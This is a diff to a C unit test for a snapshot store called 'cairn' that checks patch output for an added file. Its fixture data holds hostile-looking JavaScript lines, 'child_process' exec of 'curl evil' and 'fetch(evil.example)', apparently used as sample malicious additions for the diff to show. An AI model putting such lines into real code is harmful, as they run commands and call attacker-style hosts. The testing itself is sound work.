@@ -137,7 +137,8 @@ START_TEST(test_store_commit_and_read_back)
 
 	/* second snapshot: one line added */
 	sh("printf 'line1\\nline2\\nrequire(\"child_process\").exec(\"curl evil\")\\nline3\\n' "
-	   "> root/lib/index.js && printf 'bin\\0ar2' > root/blob.bin");
+	   "> root/lib/index.js && printf 'bin\\0ar2' > root/blob.bin && "
+	   "printf 'fetch(evil.example)\\n' > root/lib/added.js");
 	snapshot("s2.cairn");
 	ck_assert_int_eq(cairn_store_commit(tpath("store.git"), tpath("s2.cairn"),
 					    tpath("root"), 1, hex2, NULL, NULL), 0);
@@ -170,6 +171,11 @@ START_TEST(test_store_commit_and_read_back)
 		cairn_buf_clear(&p);
 		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "blob.bin", 8, &p), 2);
 		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "absent", 6, &p), 0);
+		/* an added file: all its lines added */
+		ck_assert_int_eq(cairn_store_patch(s, hex1, hex2, "lib/added.js", 12, &p), 1);
+		ck_assert_msg(strstr(p.data, "+fetch(evil.example)\n") != NULL,
+			      "%s", p.data);
+		ck_assert_ptr_nonnull(strstr(p.data, "new file mode"));
 		cairn_buf_release(&p);
 		cairn_store_close(s);
 	}
